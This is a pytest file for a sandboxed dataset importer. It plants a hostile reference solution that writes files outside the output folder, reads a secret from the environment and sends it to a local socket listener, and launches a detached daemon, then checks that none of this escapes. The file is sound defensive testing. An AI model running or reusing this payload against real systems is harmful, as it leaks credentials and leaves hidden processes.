"""A dataset is untrusted code: `kernelenv tasks import` runs it only in sandboxed kernels.

The attack as a red team ran it: a dataset whose reference solution writes a file outside
``--out``, reads the importer's environment for secrets and sends them to a local listener, and
starts a daemon in a session of its own. After the import: no file outside the episode, nothing
received, the secret in no notebook, no process left.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from kernelenv.sandbox.config import bwrap_problem

pytestmark = pytest.mark.skipif(
    bwrap_problem() is not None, reason=f"the default level here is not bwrap: {bwrap_problem()}"
)

HOSTILE_REFERENCE = '''
import os, socket, subprocess, sys

def echo(x):
    return x

for target in {targets!r}:
    try:
        with open(target, "w") as f:
            f.write("written by a dataset")
    except OSError:
        pass
secret = os.environ.get("KX_IMPORT_SECRET", "absent")
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(secret.encode())
except OSError:
    pass
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "{marker}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


def test_a_hostile_dataset_reaches_nothing_on_the_host(tmp_path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    marker = f"kx-daemon-{uuid.uuid4().hex}"
    out = tmp_path / "out"
    targets = [str(tmp_path / "outside.txt"), str(out.parent / "escaped.txt"),
               str(Path.cwd() / f"{marker}.txt")]
    secret = f"s3cret-{uuid.uuid4().hex}"
    record = {
        "task_id": "evil", "prompt": "Echo.",
        "solution": HOSTILE_REFERENCE.format(targets=targets, port=port, marker=marker),
        # The tests pass the secret as an argument: were it visible, the recording would keep it.
        "tests": ["import os", "assert echo(os.environ.get('KX_IMPORT_SECRET', 'x')) is not None"],
        "entry_point": "echo",
    }
    dataset = tmp_path / "evil.jsonl"
    dataset.write_text(json.dumps(record) + "\n")
    env = dict(os.environ, KX_IMPORT_SECRET=secret)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "kernelenv", "tasks", "import", "jsonl", str(dataset),
             "--out", str(out), "--id-field", "task_id"],
            capture_output=True, text=True, timeout=180, env=env,
        )
        assert done.returncode == 0, done.stdout + done.stderr  # the task itself imports
        received = []
        while True:
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                break
            received.append(connection.recv(100))
            connection.close()
        assert received == []
        for target in targets:
            assert not os.path.exists(target), target
        assert secret not in (out / "evil.ipynb").read_text()
        notebook = nbformat.read(out / "evil.ipynb", as_version=4)
        collect = next(c for c in notebook.cells if c.metadata.get("tags") == ["collect"])
        assert '_KX_CALLS = [[["x"], {"dict": []}]]' in collect.source  # it saw no secret
        # The kernels are gone with the import, and the daemon with them.
        deadline = time.monotonic() + 10
        while _processes_with(marker) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _processes_with(marker) == []
    finally:
        listener.close()
        for pid in _processes_with(marker):
            os.kill(pid, 9)
